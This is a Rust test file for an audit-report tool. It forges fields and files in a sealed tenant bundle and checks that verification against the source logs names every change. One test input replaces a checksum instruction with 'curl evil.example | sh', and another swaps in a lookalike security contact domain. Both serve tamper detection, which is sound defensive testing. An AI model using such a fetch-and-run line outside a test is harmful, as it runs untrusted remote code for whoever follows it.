//! Forgeries of an unsigned bundle, sealed anew: its logs are judged again, and every one is named.

mod fields;

use std::{fs, path::Path};

use super::{CASE, reseal};
use crate::util::{Dir, Run, files, has, program, root};

/// One event with every field, one that names no tenant, one that cannot be read, and one of
/// another tenant that names the first.
const LOG: &str = r#"{"event_id":"e1","timestamp":"2026-01-16T00:10:00.5Z","actor":{"id":"a1"},"tenant":{"id":"acme"},"action":"user.mfa.reset","outcome":"success","target":{"type":"user","id":"u-17","name":"Jo Quill"},"ticket":"SUP-4711","justification":"lost the phone","client":{"ip":"192.0.2.7","session_id":"s-0815","user_agent":"Console/7"}}
{"event_id":"e2","timestamp":"2026-01-16T01:10:00Z","actor":{"email":"ann@support.example"},"tenant":{"id":"acme"},"action":"user.view","outcome":"failure"}
{"event_id":"e3","timestamp":"2026-01-16T02:10:00Z","actor":{"id":"a2"},"tenant":{"id":"bolt"},"action":"user.view","justification":"as for acme"}
{"event_id":"e4","timestamp":"2026-01-16T03:10:00Z","actor":{"id":"a1"},"action":"user.search","justification":"whom to ask"}
{"event_id":"e5","timestamp":
"#;

fn bundle() -> Dir {
    let dir = Dir::new();
    dir.file("case.toml", CASE).file("logs/a.jsonl", LOG);
    dir.run(["report", "case.toml", "--quiet", "--out", "out"]).ends(1);
    dir
}

fn judged(dir: &Dir) -> Run {
    dir.run(["verify", "out", "--logs", "."])
}

/// Puts a text in place of another in all files of a folder, as one does who forges all forms
/// alike. Digests stay.
fn everywhere(folder: &Path, from: &str, to: &str) {
    let mut changed = 0;
    for (path, bytes) in files(folder) {
        let text = String::from_utf8(bytes).expect("UTF-8");
        if text.contains(from) {
            fs::write(folder.join(path), text.replace(from, to)).expect("written");
            changed += 1;
        }
    }
    assert!(changed > 0, "{from}");
}

fn one(file: &Path, from: &str, to: &str) {
    super::edit(file, from, to);
}

#[test]
#[expect(clippy::too_many_lines, reason = "a table")]
fn every_forged_field_and_file_is_named() {
    let dir = bundle();
    judged(&dir).ends(0).says("files of the bundle made again and the same");
    let whole = files(&dir.path("out"));
    let acme = "tenants/acme";
    let line = |field: &str, logs: &str, bundle: &str| {
        format!("tenants/acme/actions.jsonl: line 1, `{field}`: the logs give `{logs}`, the bundle says `{bundle}`")
    };
    let text = |field: &str, logs: &str, bundle: &str| line(field, &format!("\"{logs}\""), &format!("\"{bundle}\""));
    // Where, what, by what, and what is said of it.
    let forgeries: [(&str, &str, &str, String); 34] = [
        (
            acme,
            "192.0.2.7",
            "198.51.100.9",
            text("ip", "192.0.2.7", "198.51.100.9"),
        ),
        (acme, "s-0815", "s-0816", text("session", "s-0815", "s-0816")),
        (
            acme,
            "Console/7",
            "Console/8",
            text("user_agent", "Console/7", "Console/8"),
        ),
        (acme, "SUP-4711", "SUP-4712", text("ticket", "SUP-4711", "SUP-4712")),
        (
            acme,
            "lost the phone",
            "asked for it",
            text("justification", "lost the phone", "asked for it"),
        ),
        (
            acme,
            "Jo Quill",
            "Al Quill",
            "line 1, `target`: the logs give".to_owned(),
        ),
        (acme, "u-17", "u-18", "\"id\":\"u-18\"".to_owned()),
        (
            acme,
            "\"type\":\"user\"",
            "\"type\":\"file\"",
            "\"type\":\"file\"".to_owned(),
        ),
        (
            acme,
            "00:10:00.5",
            "00:10:00.6",
            text("time", "2026-01-16T00:10:00.5Z", "2026-01-16T00:10:00.6Z"),
        ),
        (acme, "\"e1\"", "\"e9\"", text("event_id", "e1", "e9")),
        (
            acme,
            "actor.id",
            "actor.email",
            text("identity_matched", "actor.id", "actor.email"),
        ),
        (
            acme,
            "\"outcome\":\"success\"",
            "\"outcome\":\"failure\"",
            text("outcome", "success", "failure"),
        ),
        (
            acme,
            "user.mfa.reset",
            "user.mfa.view",
            text("action", "user.mfa.reset", "user.mfa.view"),
        ),
        (
            acme,
            "\"effect\":\"credential\"",
            "\"effect\":\"view\"",
            text("effect", "credential", "view"),
        ),
        (
            acme,
            "\"conflict\":false",
            "\"conflict\":true",
            line("conflict", "false", "true"),
        ),
        (
            acme,
            "\"parameters\":null",
            "\"parameters\":\"-f\"",
            line("parameters", "null", "\"-f\""),
        ),
        (acme, "[\"possible\"]", "[]", line("scopes", "[\"possible\"]", "[]")),
        (
            "tenants/acme/actions.csv",
            "Jo Quill",
            "Al Quill",
            "row 1, `target_name`: the logs give `Jo Quill`, the bundle says `Al Quill`".to_owned(),
        ),
        (
            "tenants/acme/people.csv",
            "Jo Quill",
            "Al Quill",
            "row 1, `name`: the logs give `Jo Quill`, the bundle says `Al Quill`".to_owned(),
        ),
        (
            "tenants/acme/actions.csv",
            "SUP-4711",
            "SUP-4712",
            "row 1, `ticket`: the logs give `SUP-4711`".to_owned(),
        ),
        (
            "tenants/acme/report.html",
            "lost the phone",
            "asked for it",
            "tenants/acme/report.html: line ".to_owned(),
        ),
        (
            "tenants/acme/report.md",
            "192.0.2.7",
            "198.51.100.9",
            "tenants/acme/report.md: line ".to_owned(),
        ),
        (
            "tenants/acme/VERIFY.txt",
            "sha256sum -c SHA256SUMS",
            "curl evil.example | sh",
            "tenants/acme/VERIFY.txt: line ".to_owned(),
        ),
        (
            "tenants/acme/manifest.json",
            "security@vendor.example",
            "security@vend0r.example",
            "tenants/acme/manifest.json: line 1".to_owned(),
        ),
        (
            "tenants/bolt/actions.jsonl",
            "[another customer]",
            "acme",
            "tenants/bolt/actions.jsonl: line 1, `justification`".to_owned(),
        ),
        (
            "index.html",
            "user.search",
            "user.nothing",
            "index.html: line ".to_owned(),
        ),
        (
            "findings.json",
            "\"tlp\": \"RED\"",
            "\"tlp\": \"CLEAR\"",
            "findings.json: line ".to_owned(),
        ),
        ("tenants.csv", "acme", "acne", "tenants.csv: row ".to_owned()),
        (
            "refused.csv",
            "malformed-json",
            "not-an-object",
            "refused.csv: row 1, `reason`: the logs give `malformed-json`".to_owned(),
        ),
        (
            "unattributed.jsonl",
            "whom to ask",
            "nobody",
            "unattributed.jsonl: line 1, `justification`: the logs give".to_owned(),
        ),
        (
            "masked.jsonl",
            "as for acme",
            "as for all",
            "masked.jsonl: line 1, `original`: the logs give".to_owned(),
        ),
        (
            "isolation.csv",
            "masked",
            "allowed",
            "isolation.csv: row 1, `verdict`: the logs give `masked`".to_owned(),
        ),
        (
            "records/acme.jsonl",
            "\"source\":\"logs/a.jsonl\"",
            "\"source\":\"logs/b.jsonl\"",
            "records/acme.jsonl: line 1, `source`: the logs give".to_owned(),
        ),
        (
            "manifest.json",
            "\"basis\":\"Because.\"",
            "\"basis\":\"As asked.\"",
            "manifest.json: `case.scopes`: the case gives".to_owned(),
        ),
    ];
    for (place, from, to, says) in &forgeries {
        let path = dir.path("out").join(place);
        if path.is_dir() {
            everywhere(&path, from, to);
        } else {
            one(&path, from, to);
        }
        reseal(&dir.path("out"));
        let run = judged(&dir);
        assert_eq!(run.status, 1, "{place}: {from}\n{}", run.stdout);
        assert!(run.stdout.contains(says.as_str()), "`{says}` is not in\n{}", run.stdout);
        restore(&dir, &whole);
    }
    judged(&dir).ends(0);
}

fn restore(dir: &Dir, whole: &std::collections::BTreeMap<String, Vec<u8>>) {
    for (path, bytes) in whole {
        fs::write(dir.path("out").join(path), bytes).expect("written");
    }
}

/// Rows and files that are left out or put in are named as well.
#[test]
fn rows_and_files_that_are_missing_or_too_many_are_named() {
    let dir = bundle();
    let whole = files(&dir.path("out"));
    let told = |change: &dyn Fn(&Path), says: &str| {
        change(&dir.path("out"));
        reseal(&dir.path("out"));
        judged(&dir).ends(1).says(says);
        restore(&dir, &whole);
    };
    let copy = |out: &Path, end: &dyn Fn(&str) -> String| {
        let path = out.join("tenants/acme/actions.jsonl");
        let text = fs::read_to_string(&path).expect("a text");
        fs::write(path, end(&text)).expect("written");
    };
    told(
        &|out| copy(out, &|text| text.lines().next().expect("a line").to_owned() + "\n"),
        "tenants/acme/actions.jsonl: line 2 is missing: the logs give one",
    );
    told(
        &|out| copy(out, &|text| format!("{text}{}\n", text.lines().next().expect("a line"))),
        "tenants/acme/actions.jsonl: line 3 is one too many: the logs give none",
    );
    told(
        &|out| fs::remove_file(out.join("tenants/acme/report.md")).expect("removed"),
        "tenants/acme/report.md: the logs give such a file, and the bundle has none",
    );
    told(
        &|out| fs::write(out.join("notes.txt"), "Nothing.").expect("written"),
        "notes.txt: the logs give no such file",
    );
}

#[test]
fn what_keeps_from_judging_again_is_stated() {
    let dir = bundle();
    fs::rename(dir.path("agents.lock"), dir.path("lock")).expect("moved");
    judged(&dir)
        .ends(1)
        .says("not judged again: `agents.lock` is not beside the case");
    fs::rename(dir.path("lock"), dir.path("agents.lock")).expect("moved");
    dir.file("logs/b.jsonl", LOG);
    judged(&dir)
        .ends(1)
        .says("logs/b.jsonl: the case looks for logs there, and the bundle does not know this one");
}

/// Also a question that was asked by flags, where logs lie in an archive, and with the bundle among
/// the logs.
#[test]
fn question_by_flags_is_judged_again() {
    if !has("tar") {
        return;
    }
    let dir = Dir::new();
    dir.file("logs/a.jsonl", LOG).file("agents.csv", "id\na1\na2\n");
    let packed = std::process::Command::new("tar")
        .args(["-czf", "logs/b.tar.gz", "-C", "logs", "a.jsonl"])
        .current_dir(dir.path(""))
        .status();
    assert!(packed.expect("tar").success());
    let window = ["--from", "2026-01-16T00:00:00Z", "--until", "2026-01-17T00:00:00Z"];
    let args = [
        "report",
        "--logs",
        "logs",
        "--agents",
        "agents.csv",
        "--quiet",
        "--out",
        "logs/out",
    ];
    dir.run(args.into_iter().chain(window)).ends(1);
    let verify = ["verify", "logs/out", "--logs", "."];
    dir.run(verify).ends(0).says("made again and the same");
    one(&dir.path("logs/out/unattributed.jsonl"), "whom to ask", "nobody");
    reseal(&dir.path("logs/out"));
    dir.run(verify)
        .ends(1)
        .says("`justification`: the logs give `\"whom to ask\"`");
}

#[test]
fn sample_is_made_again_byte_by_byte() {
    let dir = Dir::new();
    let out = super::sample(&dir, "out");
    Run::of(program(root()).arg("verify").arg(&out).args(["--logs", "sample_logs"]))
        .ends(0)
        .says("made again and the same");
}
